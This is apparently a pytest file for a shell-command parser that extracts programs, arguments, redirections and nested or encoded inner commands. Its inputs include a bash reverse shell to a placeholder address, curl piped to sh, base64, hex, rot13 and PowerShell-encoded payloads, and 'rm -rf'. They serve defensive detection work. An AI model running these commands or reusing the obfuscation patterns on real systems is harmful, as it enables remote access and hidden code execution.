"""What is read from command lines: programs, their words, and the programs inside them."""

from __future__ import annotations

import base64

import pytest

from weighbridge.formats.scripts.facts import Argument, Language, ScriptFacts
from weighbridge.formats.scripts.shell import read_argv, read_shell

Calls = list[tuple[str, tuple[Argument, ...]]]

WORDS: dict[str, Calls] = {
    "ls -la /": [("ls", ("-la", "/"))],
    "a; b && c || d & e\nf": [(name, ()) for name in "abcdef"],
    "a | b |& c": [("a", ()), ("b", ()), ("c", ())],
    "echo 'a b' \"c d\" e\\ f": [("echo", ("a b", "c d", "e f"))],
    "echo a'b'\"c\"": [("echo", ("abc",))],
    'echo "a\\"b" \'c\\d\'': [("echo", ('a"b', "c\\d"))],
    "r''m -r\"f\" x": [("rm", ("-rf", "x"))],
    "r\\m x": [("rm", ("x",))],
    "echo a\\\nb": [("echo", ("ab",))],
    "a # b ; c\nd": [("a", ()), ("d", ())],
    "echo a#b": [("echo", ("a#b",))],
    "X=1 Y='2' prog z": [("prog", ("z",))],
    "/usr/bin/env python3 a.py": [("python3", ("a.py",))],
    "sudo -u root /bin/cat x": [("cat", ("x",))],
    "nohup timeout 5 sh x.sh": [("sh", ("x.sh",))],
    "(a; b)": [("a", ()), ("b", ())],
    "$'\\x6c\\x73' /": [("ls", ("/",))],
    "C:\\Windows\\System32\\CALC.EXE": [("calc", ())],
    "cmd.exe /c^alc": [("cmd", ("/calc",))],
    'start "" /b prog.exe x': [("prog", ("x",))],
    "echo 'open": [("echo", ("open",))],
    "": [],
    "   # only this": [],
}


@pytest.mark.parametrize("text", WORDS)
def test_programs_and_words_are_those_that_a_shell_would_run(text: str) -> None:
    assert [(call.name, call.arguments) for call in read_shell(text).calls] == WORDS[text]


@pytest.mark.parametrize(
    ("text", "keywords"),
    [
        ("a > /tmp/x 2>&1", ((">", "/tmp/x"), (">&", "1"))),
        ("a >>x", ((">>", "x"),)),
        ("a &> x", ((">", "x"),)),
        ("a < x", (("<", "x"),)),
        ("bash -i >& /dev/tcp/192.0.2.1/1 0>&1", ((">&", "/dev/tcp/192.0.2.1/1"), (">&", "1"))),
        ("a <<< 'x y'", (("<<<", "x y"),)),
    ],
)
def test_redirections_are_keywords(text: str, keywords: tuple[tuple[str, str], ...]) -> None:
    assert read_shell(text).calls[0].keywords == keywords


def test_what_comes_by_a_pipe_is_told() -> None:
    first, second = read_shell("curl x | sh").calls
    assert first.keywords == ()
    assert second.keywords == (("stdin", "pipe"),)


def _nested(facts: ScriptFacts) -> tuple[ScriptFacts, ...]:
    return (*facts.nested, *(inner for outer in facts.nested for inner in _nested(outer)))


_CURL = base64.b64encode(b"curl example.invalid").decode()
_POWER = base64.b64encode("curl example.invalid".encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("text", "layers"),
    [
        ("sh -c 'curl example.invalid'", ()),
        ('bash -lc "curl example.invalid"', ()),
        ("sh -c \"bash -c 'curl example.invalid'\"", ()),
        ("echo $(curl example.invalid)", ()),
        ("echo `curl example.invalid`", ()),
        ('echo "$(curl example.invalid)"', ()),
        ("diff <(curl example.invalid) x", ()),
        ("eval curl example.invalid", ()),
        ("cmd /c curl example.invalid", ()),
        ("powershell -Command curl example.invalid", ()),
        (f"powershell -e {_POWER}", ("base64",)),
        (f"powershell.exe -NoProfile -EncodedCommand {_POWER}", ("base64",)),
        ("bash <<< 'curl example.invalid'", ()),
        ("echo curl example.invalid | sh", ()),
        (f"echo {_CURL} | base64 -d | sh", ("base64",)),
        (f"printf '%s' | echo {_CURL}|base64 --decode|bash", ("base64",)),
        (f"echo {b'curl example.invalid'.hex()} | xxd -r -p | sh", ("hex",)),
        ("echo 'dilavni.elpmaxe lruc' | rev | sh", ("reversed",)),
        ("echo 'phey rknzcyr.vainyvq' | tr A-Za-z N-ZA-Mn-za-m | sh", ("rot13",)),
    ],
)
def test_a_program_in_a_program_is_read(text: str, layers: tuple[str, ...]) -> None:
    found = [one for one in _nested(read_shell(text)) if ("curl", ("example.invalid",)) in _calls(one)]
    assert [one.layers for one in found] == [layers]


def _calls(facts: ScriptFacts) -> Calls:
    return [(call.name, call.arguments) for call in facts.calls]


@pytest.mark.parametrize("interpreter", ["python", "python3", "python3.11", "/usr/bin/python2", "pypy3"])
def test_python_given_on_the_command_line_is_read_as_python(interpreter: str) -> None:
    (inner,) = read_shell(f"{interpreter} -c 'import os; os.system(\"id\")'").nested
    assert inner.language is Language.PYTHON
    assert _calls(inner) == [("os.system", ("id",))]


def test_words_of_an_argument_vector_are_not_split_again() -> None:
    facts = read_argv(["/bin/sh", "-c", "a; b"])
    assert _calls(facts) == [("sh", ("-c", "a; b"))]
    assert _calls(facts.nested[0]) == [("a", ()), ("b", ())]


def test_programs_nested_deeper_than_the_limit_are_said_to_be_left_out() -> None:
    text = "id"
    for _ in range(8):
        text = f"eval {text}"
    deep = read_shell("$(" * 9 + "id" + ")" * 9)
    assert not all(one.is_complete for one in (deep, *_nested(deep)))
    assert read_shell(text).calls
